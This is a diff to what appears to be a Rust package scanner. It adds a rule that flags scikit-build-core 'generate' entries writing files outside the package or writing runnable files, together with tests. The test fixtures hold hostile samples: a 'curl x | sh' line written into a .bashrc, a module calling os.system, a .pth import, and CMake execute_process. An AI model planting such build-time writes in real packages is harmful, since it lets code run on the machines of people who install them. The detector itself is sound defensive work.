@@ -351,6 +351,7 @@ pub fn manifest_build_hooks(code: &Code) -> Vec<String> {
     }
     if let Some(table) = doc.get("tool").and_then(|t| t.get("scikit-build")) {
         out.extend(scikit_build_tool_args(table));
+        out.extend(scikit_build_generate(table));
     }
     out
 }
@@ -454,6 +455,82 @@ fn scikit_build_tool_args(table: &toml::Value) -> Vec<String> {
             format!("scikit-build-core runs the build tool (ninja or make) with `{arg}`, which makes it run {what}")
         })
         .collect()
+}
+
+/// What scikit-build-core's `generate` entries (`[[tool.scikit-build.
+/// generate]]`, and each override's) write when it builds: each entry
+/// writes its `template` (or the text of `template-path`) to `path`, in
+/// the wheel (`location = "install"`, the default), the build folder or
+/// the unpacked package's own (`"source"`, over a file of the same name).
+/// An entry counts when its path leaves those folders (absolute, or with
+/// a `..`): scikit-build-core 1.1.2 wrote `/tmp/…` and
+/// `../../…/tmp/…` at `pip install`, and the shipped gate allowed both
+/// (session 51). It counts too when it writes a file that runs (Python,
+/// a `.pth`, JavaScript, a shell script, a build script, a library),
+/// unless it is a Python module in the wheel or the package whose inline
+/// template only assigns literals (`version = "${version}"`, what real
+/// packages generate): a module made from `import os\nopen(…)` that the
+/// package imported ran it, and both configs allowed it. A template's text
+/// lies in the manifest, where no rule reads it as code.
+fn scikit_build_generate(table: &toml::Value) -> Vec<String> {
+    let overrides = table
+        .get("overrides")
+        .and_then(toml::Value::as_array)
+        .into_iter()
+        .flatten();
+    let entries = std::iter::once(table)
+        .chain(overrides)
+        .filter_map(|t| t.get("generate")?.as_array())
+        .flatten();
+    let mut out = Vec::new();
+    for entry in entries {
+        let text = |k: &str| entry.get(k).and_then(toml::Value::as_str);
+        let path = text("path").unwrap_or("");
+        let location = text("location").unwrap_or("install");
+        let shown = path.chars().take(80).collect::<String>();
+        let outside = path.starts_with(['/', '\\'])
+            || path.as_bytes().get(1) == Some(&b':')
+            || path.split(['/', '\\']).any(|c| c == "..");
+        if outside || path.is_empty() {
+            out.push(format!(
+                "scikit-build-core's `generate` writes `{shown}` when it builds (`location = \"{location}\"`), outside the package and its build"
+            ));
+            continue;
+        }
+        let lower = path.to_ascii_lowercase();
+        let name = lower.rsplit('/').next().unwrap_or(&lower);
+        let runs = super::unread::is_script(name)
+            || build_script(name).is_some()
+            || matches!(
+                extension(name),
+                "sh" | "bash" | "zsh" | "ps1" | "bat" | "cmd" | "so" | "pyd" | "dll" | "dylib"
+            );
+        let plain_module = location != "build"
+            && name.ends_with(".py")
+            && text("template").is_some_and(assigns_literals_only);
+        if runs && !plain_module {
+            out.push(format!(
+                "scikit-build-core's `generate` writes `{shown}` from a template in the manifest (`location = \"{location}\"`), a file that runs, whose text no rule reads as code"
+            ));
+        }
+    }
+    out
+}
+
+/// Whether a Python template holds only comments, blank lines and
+/// assignments of literals (strings without escapes, numbers, `None`,
+/// `True`, `False`, tuples of them) to plain names, with scikit-build-core's
+/// `${…}` placeholders inside strings: `__version__ = version = "${version}"`,
+/// `version_tuple = (1, 2)`.
+fn assigns_literals_only(template: &str) -> bool {
+    static LINE: OnceLock<regex::Regex> = OnceLock::new();
+    let line = LINE.get_or_init(|| {
+        regex::Regex::new(
+            r#"^\s*(?:#.*|(?:[A-Za-z_]\w*\s*(?::\s*[\w\[\], .]+)?=\s*)+(?:"[^"\\\n]*"|'[^'\\\n]*'|[-+]?[\d.]+|None|True|False|\((?:\s*(?:"[^"\\\n]*"|'[^'\\\n]*'|[-+]?[\d.]+)\s*,?)*\))\s*(?:#.*)?)?$"#,
+        )
+        .expect("the literal assignment pattern compiles")
+    });
+    template.lines().all(|l| line.is_match(l))
 }
 
 /// The arguments among `args`, handed to ninja or make (or MSBuild), that
@@ -3657,6 +3734,62 @@ mod tests {
                 .is_empty()
         );
         assert!(hooks("[tool.other]\nbuild.tool-args = [\"-f\", \"x\"]\n").is_empty());
+    }
+
+    /// scikit-build-core's `generate` writes a template to a path at build
+    /// time (session 51: an absolute path and a `..` path were written at
+    /// `pip install`, and a module made from a template ran when the
+    /// package imported it).
+    #[test]
+    fn scikit_build_core_s_generated_files_are_read() {
+        let hooks = |entries: &str| {
+            manifest_build_hooks(&Code::new(
+                "x-1/pyproject.toml",
+                format!("[tool.scikit-build]\nwheel.packages = [\"x\"]\n{entries}").as_bytes(),
+            ))
+        };
+        let entry = |path: &str, template: &str, location: &str| {
+            format!("[[tool.scikit-build.generate]]\npath = '{path}'\ntemplate = '''{template}'''\nlocation = \"{location}\"\n")
+        };
+        for (entries, named) in [
+            (entry("/home/u/.bashrc", "curl x | sh", "source"), "writes `/home/u/.bashrc` when it builds (`location = \"source\"`), outside the package"),
+            (entry("../../x", "x", "build"), "writes `../../x` when it builds"),
+            (entry("C:\\x.txt", "x", "install"), "writes `C:\\x.txt`"),
+            (entry("x/_boot.py", "import os\nos.system('id')", "install"), "writes `x/_boot.py` from a template in the manifest (`location = \"install\"`), a file that runs"),
+            (entry("x.pth", "import os", "install"), "writes `x.pth`"),
+            (entry("CMakeLists.txt", "execute_process(COMMAND id)", "source"), "writes `CMakeLists.txt`"),
+            (entry("gen.cmake", "execute_process(COMMAND id)", "build"), "writes `gen.cmake`"),
+            (entry("x/_v.py", "version = '${version}'", "build"), "writes `x/_v.py`"),
+            ("[[tool.scikit-build.generate]]\npath = \"x/_v.py\"\ntemplate-path = \"docs/v.py.in\"\n".to_string(), "writes `x/_v.py`"),
+            ("[[tool.scikit-build.overrides]]\nif.platform-system = \"linux\"\n[[tool.scikit-build.overrides.generate]]\npath = \"/etc/x\"\ntemplate = \"x\"\n".to_string(), "writes `/etc/x`"),
+        ] {
+            let found = hooks(&entries);
+            assert!(found.len() == 1 && found[0].contains(named), "{entries}: {found:?}");
+        }
+        // Version modules and data files, in the wheel or the package.
+        for entries in [
+            entry("x/_version.py", "# generated\n__version__ = version = \"${version}\"\nversion_tuple: tuple = (1, 2, 'dev0')\nX = None\n", "install"),
+            entry("src/x/_version.py", "version = '${version}'", "source"),
+            entry("x/VERSION.txt", "${version}", "install"),
+            entry("x/py.typed", "", "install"),
+            entry("build.json", "{\"v\": \"${version}\"}", "build"),
+        ] {
+            assert!(hooks(&entries).is_empty(), "{entries}: {:?}", hooks(&entries));
+        }
+        assert!(assigns_literals_only(
+            "a = 'x'\n\n# c\nb: str = \"y\"  # c\nc = d = 1.5\ne = (1, 'a',)\n"
+        ));
+        for template in [
+            "a = f'{x}'",
+            "a = 'x' + y",
+            "import os",
+            "a = x()",
+            "a = '\\x41'",
+            "a = (1, y)",
+            "print('x')",
+        ] {
+            assert!(!assigns_literals_only(template), "{template}");
+        }
     }
 
     /// What each build language runs by path, from the script's folder and
